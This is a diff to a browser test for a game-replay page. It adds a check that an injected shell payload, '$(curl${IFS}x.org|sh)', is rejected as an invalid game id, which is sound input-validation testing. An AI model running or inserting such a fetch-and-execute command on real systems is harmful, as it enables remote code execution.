@@ -253,6 +253,8 @@ def test_what_can_not_be_shown_is_said(
         words = f"arena replay results/x {address}"
         expect(page.locator("#message")).to_contain_text(words)
         assert page.locator("#replay").is_hidden()
+    go(page, "$(curl${IFS}x.org|sh)")
+    expect(page.locator("#message")).to_have_text("That is no game's id.")
     page.add_init_script("delete window.DecompressionStream")
     page.reload()
     go(page, recorded.records["ox"].game_id)
